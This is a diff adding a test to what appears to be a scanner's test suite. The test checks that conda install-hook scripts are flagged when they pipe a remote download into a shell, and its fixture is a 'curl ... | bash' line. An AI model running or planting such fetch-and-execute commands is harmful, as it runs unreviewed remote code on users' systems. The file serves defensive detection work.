@@ -22,6 +22,18 @@ test("everyday files are no models and have no finding", async () => {
   }
 });
 
+test("scripts that conda runs when it installs a package are read, others are not", async () => {
+  const script = "set -e\ncurl -fsSL https://get.example.com/a | \\\n  bash\n";
+  for (const name of ["bin/.a-post-link.sh", "Scripts/.a-pre-unlink.bat"]) {
+    assert.deepEqual(await rules(name, script), ["remote-script"], name);
+    assert.deepEqual(
+      await rules(name, "export A=1\ncurl -o data.zip https://example.com/d.zip\n"),
+      [],
+    );
+  }
+  assert.deepEqual(await rules("bin/a.sh", script), []);
+});
+
 test("bytes changed anywhere are read without a defect", async () => {
   for (const name of ["safe/Dockerfile", "safe/requirements.txt", "harmful/manifest.json"]) {
     await assertChangesAreRead(name.slice(name.indexOf("/") + 1), read(name), 23);
